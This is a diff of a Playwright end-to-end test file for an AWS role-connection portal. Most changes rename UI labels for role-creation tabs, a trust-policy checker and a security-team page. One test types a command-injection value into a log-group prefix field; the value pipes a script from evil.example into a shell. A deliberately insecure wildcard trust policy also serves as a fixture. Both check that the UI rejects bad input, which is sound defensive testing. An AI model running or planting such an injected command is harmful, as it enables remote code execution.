@@ -2,7 +2,7 @@ import { readFileSync } from "node:fs";
 import { ConnectPage } from "#e2e/stack/connect-page.ts";
 import { expect, test } from "#e2e/stack/portal-test.ts";
 
-const WAYS = ["One click", "Template", "Terraform", "AWS CLI", "By hand"] as const;
+const WAYS = ["Quick create", "Template", "Terraform", "AWS CLI", "AWS console"] as const;
 const PARTNER = "arn:aws:iam::999999999999:root";
 const WILD = {
   Version: "2012-10-17",
@@ -45,10 +45,10 @@ test("every way to make the role carries the same External ID, and none can be m
     await tab("Template").click();
     const [download] = await Promise.all([
       page.waitForEvent("download"),
-      panel.getByRole("link", { name: "Download the template", exact: true }).click(),
+      panel.getByRole("link", { name: "Download template", exact: true }).click(),
     ]);
     expect(download.suggestedFilename()).toBe("sallyport-role.json");
-    const link = new URL((await panel.getByRole("link", { name: /^the published file/ }).getAttribute("href")) ?? "");
+    const link = new URL((await panel.getByRole("link", { name: /^the published template/ }).getAttribute("href")) ?? "");
     expect(readFileSync(await download.path(), "utf8")).toBe(await (await fetch(link)).text());
   });
 
@@ -59,7 +59,7 @@ test("every way to make the role carries the same External ID, and none can be m
     await expect(commands).toContainText("log-group:/app/*");
     await prefix.fill("/app/'; curl evil.example | sh; '");
     await expect(commands).toHaveCount(0);
-    await expect(panel.getByText("One of the choices above can’t be")).toBeVisible();
+    await expect(panel.getByText("One of the settings above is not valid")).toBeVisible();
     await tab("Terraform").click();
     await expect(panel.getByRole("region", { name: "sallyport.tf", exact: true })).toHaveCount(0);
     await prefix.fill("/app/");
@@ -67,11 +67,11 @@ test("every way to make the role carries the same External ID, and none can be m
   });
 
   await test.step("a role with that name and the shown trust policy connects", async () => {
-    await tab("By hand").click();
+    await tab("AWS console").click();
     const trust = panel.getByRole("region", { name: "Trust policy", exact: true });
     expect(JSON.parse((await trust.textContent()) ?? "")).toMatchObject({ Version: "2012-10-17" });
     await expect(panel.getByText(/^Name the role sallyport-[a-z2-7]{12}\./)).toBeVisible();
-    await tab("One click").click();
+    await tab("Quick create").click();
     const role = await sandbox.createStack(await connect.quickCreateLink(), "222222222222");
     await connect.verify(role.arn);
     await expect(connect.result).toHaveText(/^Connected/);
@@ -88,25 +88,25 @@ test("the doctor names the hole of a pasted policy and mends it, before a proof 
   const id = await connect.externalId();
   const link = await connect.quickCreateLink();
   const field = page.getByRole("textbox", { name: "Trust policy", exact: true });
-  const found = page.getByRole("list", { name: "What the check found", exact: true }).getByRole("listitem");
-  const copy = page.getByRole("button", { name: "Copy mended policy", exact: true });
-  const mended = page.getByRole("region", { name: "Mended trust policy", exact: true });
+  const found = page.getByRole("list", { name: "Findings", exact: true }).getByRole("listitem");
+  const copy = page.getByRole("button", { name: "Copy corrected policy", exact: true });
+  const mended = page.getByRole("region", { name: "Corrected trust policy", exact: true });
 
   await test.step("before", async () => {
-    await page.getByRole("tab", { name: "By hand", exact: true }).click();
-    await page.getByRole("button", { name: "Check a trust policy before you verify", exact: true }).click();
+    await page.getByRole("tab", { name: "AWS console", exact: true }).click();
+    await page.getByRole("button", { name: "Check your trust policy before you verify", exact: true }).click();
     await field.fill(JSON.stringify(WILD, null, 2));
     await expect(found.first()).toContainText("Line 12");
     await expect(found.first()).toContainText('"sts:ExternalId": "*"');
-    const advised = page.getByRole("region", { name: "The checked policy, mended", exact: true });
+    const advised = page.getByRole("region", { name: "Correction of the pasted policy", exact: true });
     await expect(advised).toContainText(`"sts:ExternalId": "${id}"`);
-    await expect(page.getByRole("button", { name: "Copy the checked policy, mended", exact: true })).toBeVisible();
+    await expect(page.getByRole("button", { name: "Copy correction of the pasted policy", exact: true })).toBeVisible();
   });
 
   const role = await sandbox.createStack(link, "222222222222");
   await sandbox.setTrustPolicy(role, WILD);
   await connect.verify(role.arn);
-  await expect(connect.result).toHaveText(/^Rejected/);
+  await expect(connect.result).toHaveText(/^Not secure/);
 
   await test.step("after: the mended policy is there at once, and the pasted one's own mending takes its place", async () => {
     await expect(copy).toHaveCount(1);
@@ -140,8 +140,10 @@ test("the page for the security team shows the policies of the saved choices, an
   await expect(page.getByRole("heading", { name: "For your security team", exact: true })).toBeVisible();
   await expect(page.getByRole("region", { name: "Trust policy", exact: true })).toContainText(`"sts:ExternalId": "${id}"`);
   await expect(page.getByRole("region", { name: "Permissions policy read-logs", exact: true })).toContainText("log-group:/aws/lambda/*");
-  await expect(page.getByRole("region", { name: "Each time we opened the role, last 90 days", exact: true })).toContainText(id);
-  await expect(page.getByRole("region", { name: "All that was done in our sessions", exact: true })).toContainText("sp-[a-z2-7]{20}");
+  await expect(page.getByRole("region", { name: "AssumeRole calls by the portal, last 90 days", exact: true })).toContainText(id);
+  await expect(page.getByRole("region", { name: "All activity in the portal’s role sessions", exact: true })).toContainText(
+    "sp-[a-z2-7]{20}",
+  );
 
   const member = await as(customer.member);
   await member.goto(page.url());
